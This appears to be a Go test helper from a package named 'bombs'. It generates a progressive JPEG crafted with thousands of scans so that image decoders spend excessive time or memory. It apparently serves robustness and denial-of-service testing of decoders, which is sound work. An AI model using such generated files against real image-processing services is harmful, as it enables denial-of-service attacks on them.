package bombs

import "bytes"

// Segments of a progressive JPEG file, each with its marker and length.
var (
	tableQ  = append([]byte("\xff\xdb\x00\x43\x00"), bytes.Repeat([]byte{1}, 64)...)
	tableDC = append([]byte("\xff\xc4\x00\x14\x00\x01"), make([]byte, 16)...) // 0: no difference
	// tableAC has the code 0 for a run of blocks whose band has ended; fourteen more bits
	// of 0 say that it has runLength of them.
	tableAC = append(append([]byte("\xff\xc4\x00\x14\x10\x01"), make([]byte, 15)...), 0xe0)
)

const runLength = 1 << 14

// JPEG is a progressive picture, all grey, of side by side pixels, a multiple of 8. It
// has so many passes, 1 to 14, over each of its coefficients but the first: 63·passes + 1
// scans.
func JPEG(side, passes int) []byte {
	high, low := byte(side>>8), byte(side)
	blocks := side / 8 * (side / 8)
	var file bytes.Buffer
	file.WriteString("\xff\xd8")
	file.Write(tableQ)
	file.Write([]byte{0xff, 0xc2, 0, 11, 8, high, low, high, low, 1, 1, 0x11, 0})
	file.Write(tableDC)
	file.Write(tableAC)
	file.WriteString("\xff\xda\x00\x08\x01\x01\x00\x00\x00\x00")
	file.Write(make([]byte, (blocks+7)/8))
	runs := make([]byte, ((blocks+runLength-1)/runLength*15+7)/8)
	for k := byte(1); k < 64; k++ {
		for pass := range passes {
			turns := byte(passes - 1 - pass) // the bit that it reaches
			if pass > 0 {
				turns |= (turns + 1) << 4 // from the one above
			}
			file.Write([]byte{0xff, 0xda, 0, 8, 1, 1, 0, k, k, turns})
			file.Write(runs)
		}
	}
	file.WriteString("\xff\xd9")
	return file.Bytes()
}
